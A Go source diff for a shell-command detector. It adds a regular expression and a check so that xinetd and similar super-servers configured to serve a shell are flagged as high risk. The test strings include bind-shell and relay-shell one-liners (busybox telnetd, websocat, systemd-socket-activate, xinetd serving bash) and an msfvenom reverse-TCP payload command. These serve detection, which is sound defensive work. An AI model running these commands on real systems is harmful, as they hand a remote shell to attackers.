@@ -1,6 +1,7 @@
 package detect
 
 import (
+	"regexp"
 	"slices"
 	"strings"
 
@@ -37,7 +38,7 @@ var shellRelayTool = Detector{
 		"busybox telnetd -l /bin/sh -p 9999",
 		"websocat ws://203.0.113.9:8080 sh-c:'exec bash -i'",
 		"systemd-socket-activate -l 4444 --inetd -a /bin/bash",
-		"websocketd --port=8080 bash",
+		"websocketd --port=8080 bash", "xinetd -f /dev/stdin <<< 'service x { port=4444 server=/bin/bash }'",
 		"msfvenom -p linux/x64/shell_reverse_tcp LHOST=198.51.100.7 LPORT=1 -f elf -o /tmp/e",
 	)...),
 	Quiet: lines("",
@@ -47,6 +48,9 @@ var shellRelayTool = Detector{
 		"apt-get install -y netcat-traditional socat", "nc -e", "systemd-socket-activate -l 8080 ./server", "websocketd --port=8080 ./count.sh", "websocat ws://203.0.113.9:8080", "msfvenom --list payloads", "rg 'nc -e /bin/sh' .",
 	),
 }
+
+// servesShell is the settings of a super-server for a shell.
+var servesShell = regexp.MustCompile(`\b(?:server\s*=\s*|nowait\s+\S+\s+)\S*/(?:ba|z|da|k)?sh\b`)
 
 func relayTool(s *command.Simple, _ track.View) *Finding {
 	p := s.Parsed()
@@ -92,7 +96,7 @@ func relayTool(s *command.Simple, _ track.View) *Finding {
 			return say(s, coi.High, "program built that hands a shell to the network")
 		}
 	case "telnetd", "tcpserver", "in.telnetd", "udpsvd", "tcpsvd", "xinetd", "systemd-socket-activate", "websocketd", "shell2http", "s6-tcpserver4", "s6-tcpserver6", "faucet", "inetd", "socklog", "netpipes":
-		if slices.ContainsFunc(s.Argv[1:], program.ShellPath) {
+		if slices.ContainsFunc(s.Argv[1:], program.ShellPath) || servesShell.MatchString(s.Feed) {
 			return say(s, coi.High, "shell offered on a port by "+s.Name)
 		}
 	}
